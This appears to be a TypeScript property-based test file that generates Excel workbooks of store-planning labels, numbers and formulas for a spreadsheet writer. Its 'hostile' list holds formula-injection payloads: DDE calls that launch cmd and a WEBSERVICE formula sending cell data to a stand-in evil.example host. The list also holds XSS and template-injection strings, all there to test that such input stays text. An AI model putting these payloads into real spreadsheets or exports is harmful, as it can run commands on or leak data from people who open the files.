// Workbooks of an ugly sort: labels of a store among anything that people and attackers type, under any sheet name.
import fc from "fast-check";
import { writeXlsx, type TableDefinition, type WriteSheet } from "hucre";

/** What must stay text: formulas that call out, markup, other scripts, what looks like a number. */
export const hostile = fc.constantFrom(
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example","click")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  "+1+1",
  '=DDE("cmd";"/c calc";"A1")',
  "\t=1+1",
  "\r\n@SUM(1)",
  ' =IMPORTXML("http://evil.example","//a")',
  "＝1+1",
  "javascript:alert(1)",
  "{{7*7}}",
  "\u0000=1",
  "x".repeat(300),
  "-2+3",
  "@SUM(1,1)",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "{count, plural, one {#}}",
  "'quoted'",
  "#REF!",
  "TRUE",
  "1 200,50 zł",
  "05/06/2026",
  "__proto__",
  "\u202Eevil",
  "شهر",
  "📦 Paczki",
  "a\nb",
  "_x0041_",
  "]]>&amp;",
);

const label = fc.constantFrom(
  "Orders per month",
  "Zamówienia miesięcznie",
  "Rent",
  "Czynsz",
  "Wages",
  "Packaging",
  "Delivery costs",
  "Revenue",
  "Total",
  "Warehouse m2",
  "Staff",
);

const word = fc.oneof(
  { weight: 3, arbitrary: label },
  { weight: 2, arbitrary: hostile },
  fc.string({ unit: "grapheme", maxLength: 12 }),
);

const number = fc.oneof(
  fc.integer({ min: -5000, max: 500_000 }),
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 }),
);

const formula = fc.constantFrom(
  "=1/0",
  "=A1*2",
  "=SUM(A1:B3)",
  "=NOSUCH(1)",
  "=A1:A3",
  '=IF(TRUE,"x",1)',
  "=B2",
);

const cell = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 4, arbitrary: word.map((text) => ({ text })) },
  { weight: 4, arbitrary: number.map((value) => ({ value })) },
  { weight: 1, arbitrary: fc.boolean().map((value) => ({ value })) },
  { weight: 1, arbitrary: formula.map((text) => ({ formula: text })) },
);

export type Cell = { text: string } | { value: number | boolean } | { formula: string } | null;

/** Names that Excel takes: not empty, at most 31 characters, without : \ / ? * [ ], no apostrophe at the ends. */
const sheetName = fc
  .oneof(
    fc.constantFrom(
      "Costs",
      "It's a plan",
      "=1+1",
      "<script>",
      "📦📦",
      "كلفة",
      "A1",
      "R1C1",
      "Decision Matrix",
      "a".repeat(31),
      "TRUE",
      'x"y&z',
    ),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 }),
  )
  .map((name) =>
    name
      // eslint-disable-next-line no-control-regex -- XML has no place for them
      .replace(/[:\\/?*[\]\u0000-\u001f\ud800-\udfff\ufffe\uffff]/g, "_")
      .slice(0, 31)
      .replace(/^'|'$/g, "_"),
  )
  .filter((name) => name.trim() !== "" && name.toLowerCase() !== "history");

export interface Sheet {
  name: string;
  rows: Cell[][];
  merged: boolean;
  table: boolean;
  hidden: boolean;
}

const sheet: fc.Arbitrary<Sheet> = fc.record({
  name: sheetName,
  rows: fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 }),
  merged: fc.boolean(),
  table: fc.boolean(),
  hidden: fc.boolean(),
});

export const store: fc.Arbitrary<Sheet[]> = fc
  .uniqueArray(sheet, { minLength: 1, maxLength: 3, selector: ({ name }) => name.toLowerCase() })
  .map((sheets) => sheets.map((one, index) => (index === 0 ? { ...one, hidden: false } : one)));

/** The orders and the rent are always there, so that every workbook comes to a plan. */
export async function workbookOf(sheets: readonly Sheet[]): Promise<Uint8Array> {
  const base: WriteSheet = {
    name: "Base of all",
    rows: [
      ["Orders per month", 1200],
      ["Rent per month", 4000],
    ],
  };
  return writeXlsx({ sheets: [base, ...sheets.map(written)] });
}

function written({ name, rows, merged, table, hidden }: Sheet, index: number): WriteSheet {
  const width = Math.max(...rows.map(({ length }) => length));
  const top = rows.length + 2;
  const tables: TableDefinition[] = table
    ? [{ name: `Own_${index}`, range: `A${top}:B${top + 1}`, columns: [{ name: "=1+1" }, { name: "<b>" }] }]
    : [];
  const lines = rows.map((row) =>
    row.map((one) => (one && "text" in one ? one.text : one && "value" in one ? one.value : null)),
  );
  return {
    name,
    rows: table ? [...lines, [], ["=1+1", "<b>"], ["@x", 5]] : lines,
    cells: new Map(
      rows.flatMap((row, r) =>
        row.flatMap((one, c) =>
          one && "formula" in one ? [[`${r},${c}`, { formula: one.formula.slice(1) }] as const] : [],
        ),
      ),
    ),
    ...(merged && width > 1 && { merges: [{ startRow: 0, startCol: 0, endRow: 0, endCol: 1 }] }),
    ...(tables.length > 0 && { tables }),
    ...(hidden && { hidden: true }),
  };
}
